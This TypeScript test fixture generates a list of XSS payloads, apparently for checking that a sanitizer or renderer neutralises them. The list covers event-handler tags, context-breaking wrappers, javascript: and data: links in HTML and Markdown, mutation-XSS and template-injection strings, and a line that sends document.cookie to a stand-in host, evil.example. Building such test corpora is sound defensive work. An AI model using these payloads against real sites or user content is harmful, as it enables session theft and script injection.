/** Ways in which a text has been made to run; grouped by what they try. For tests, of which each field gets all. */
const SCRIPTS = ['alert(1)', 'alert`1`', 'top["al"+"ert"](1)', 'fetch("//evil.example/"+document.cookie)'];
const TAGS = ['img src=x onerror', 'svg onload', 'body onload', 'video src=x onerror', 'audio src=x onerror', 'details open ontoggle', 'input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'marquee onstart', 'iframe onload', 'object data=x onerror', 'embed src=x onerror', 'a href=# onclick', 'p onmouseover', 'math onclick', 'style onload', 'link rel=stylesheet href=x onerror', 'form onsubmit', 'button onclick', 'isindex onfocus', 'xss contenteditable onblur', 'dialog open onclose', 'keygen autofocus onfocus', 'table onmousemove', 'td onpointerenter'];
const WRAPPERS: ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `"><${'/'}title>${inner}`,
  (inner) => `]]>${inner}`,
  (inner) => `<!--><!-- -->${inner}`,
  (inner) => `</script>${inner}`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<svg><style>${inner}</style></svg>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
];
const SCHEMES = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:alert(1)', 'jav&#x09;ascript:alert(1)', '&#106;avascript:alert(1)', 'javascript&colon;alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)', 'blob:x', 'file:///etc/passwd', '//evil.example', '\\\\evil.example', '/\\evil.example', 'https:/\\evil.example'];
const LINKS: ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `![x](${url})`,
  (url) => `<img src="${url}">`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<base href="${url}">`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url) => `<object data="${url}"></object>`,
];
const MORE = [
  '<script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script/src=//evil.example>', '<<script>alert(1)//<</script>', '<script\u0000>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>',
  '<img src="/api/media/../../evil">', '<img src=x:x>', '<div id="composition">x</div>', '<form name="cookie"></form>', '<img name="getElementById">', '<a id="__proto__">x</a>', '<template><script>alert(1)</script></template>',
  '<div style="background:url(javascript:alert(1))">x</div>', '<div style="width:expression(alert(1))">x</div>', '<style>@import "//evil.example"</style>', '<link rel="preload" href="//evil.example">', '<a href="x" target="_blank" ping="//evil.example">x</a>',
  '`<script>alert(1)</script>`', '```\n<script>alert(1)</script>\n```', '<!-- <img src=x onerror=alert(1)> -->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;script&amp;gt;', '\\<script>alert(1)\\</script>', '<a\nhref="javascript:alert(1)">x</a>',
];

/** Ends of what a text may stand in: an element of the head, a script of data, an attribute, a comment, a template of another language. */
const ENDS = ['</script>', '</SCRIPT >', '</script\t>', '<!--<script>', '-->', '--!>', ']]>', '</title>', '</style>', '</textarea>', '</noscript>', '</template>', '</option></select>', '"}]}</script>', '\\"}</script>', '\u2028', '\u2029', '">', "'>", '" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='", '`', '${alert(1)}', "{{constructor.constructor('alert(1)')()}}"];

export const HOSTILE_MARKUP: readonly string[] = [
  ...TAGS.flatMap((tag) => SCRIPTS.slice(0, 2).map((script) => `<${tag}=${script}>`)),
  ...WRAPPERS.flatMap((wrap) => TAGS.slice(0, 20).map((tag, index) => wrap(`<${tag}=${SCRIPTS[index % SCRIPTS.length]}>`))),
  ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme))),
  ...WRAPPERS.flatMap((wrap) => SCRIPTS.map((script) => wrap(`<script>${script}</script>`))),
  ...MORE,
  ...ENDS.map((end) => `${end}<script>alert(1)</script>`),
  ...ENDS.map((end) => `${end}<img src=x onerror=alert(1)>`),
  ...MORE.map((text) => `- ${text}\n\n> ${text}`),
  ...MORE.map((text) => `| a |\n| - |\n| ${text.replaceAll('\n', ' ')} |`),
];
